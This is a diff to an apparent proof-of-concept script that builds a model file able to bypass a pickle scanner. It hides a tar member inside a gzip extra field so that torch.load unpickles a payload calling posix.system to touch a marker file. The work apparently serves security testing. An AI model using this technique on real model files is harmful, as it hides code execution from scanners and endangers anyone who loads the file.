@@ -7,19 +7,12 @@ early) and scans only the decompressed benign pickle; torch.load tries tarfile.o
 file first (torch/serialization.py _legacy_load -> legacy_load) and pickle.load()s 'storages'.
 Usage: tar_in_gzip_extra.py OUT MARKER"""
 import sys, struct, zlib, pickle
+from tarblocks import header
 
 def payload(marker):
     return b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
 def tar_header(prefix12, name, size):
-    h = bytearray(512)
-    h[0:len(prefix12)] = prefix12
-    h[len(prefix12):len(prefix12) + len(name)] = name
-    h[100:108] = b'0000644\0'; h[108:116] = b'0000000\0'; h[116:124] = b'0000000\0'
-    h[124:136] = b'%011o\0' % size; h[136:148] = b'00000000000\0'; h[156:157] = b'0'
-    h[257:263] = b'ustar\0'; h[263:265] = b'00'
-    h[148:156] = b' ' * 8
-    h[148:156] = b'%06o\0 ' % sum(h)
-    return bytes(h)
+    return header(prefix12 + name, size)
 def build(marker):
     pay = payload(marker)
     m1 = tar_header(b'', b'storages', len(pay)) + pay
